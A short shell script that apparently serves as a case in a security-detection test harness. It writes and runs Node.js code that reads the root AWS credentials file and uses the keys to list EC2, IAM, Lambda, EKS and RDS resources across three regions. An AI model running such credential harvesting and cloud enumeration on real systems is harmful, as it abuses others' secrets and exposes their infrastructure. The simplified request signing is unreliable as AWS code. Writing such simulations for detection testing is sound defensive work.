#!/bin/sh
. /opt/case/case.sh

cat >/tmp/l.js <<'END'
const fs = require("fs"), http = require("http"), c = require("crypto");
const t = fs.readFileSync("/root/.aws/credentials", "utf8"), key = /key_id = (\S+)/.exec(t)[1], secret = /secret_access_key = (\S+)/.exec(t)[1];
const h = (k, d) => c.createHmac("sha256", k).update(d).digest();
const ask = (service, region, action) => new Promise((ok, no) => {
    const host = `${service}.${region}.amazonaws.com`, sign = h(h(h(h(h("AWS4" + secret, "20261130"), region), service), "aws4_request"), action).toString("hex");
    http.get({ host, path: `/?Action=${action}&Version=2016-11-15`, headers: { Authorization: `AWS4-HMAC-SHA256 Credential=${key}/20261130/${region}/${service}/aws4_request, Signature=${sign}` } }, a => { a.resume(); a.on("end", ok); }).on("error", no);
});
(async () => { for (const r of ["us-east-1", "eu-west-1", "ap-south-1"]) for (const [s, a] of [["ec2", "DescribeInstances"], ["ec2", "DescribeVpcs"], ["ec2", "DescribeVolumes"], ["lambda", "ListFunctions"], ["iam", "ListUsers"], ["eks", "ListClusters"], ["rds", "DescribeDBInstances"]]) await ask(s, r, a); console.log("listed"); })();
END
node /tmp/l.js | grep -q listed
took_place
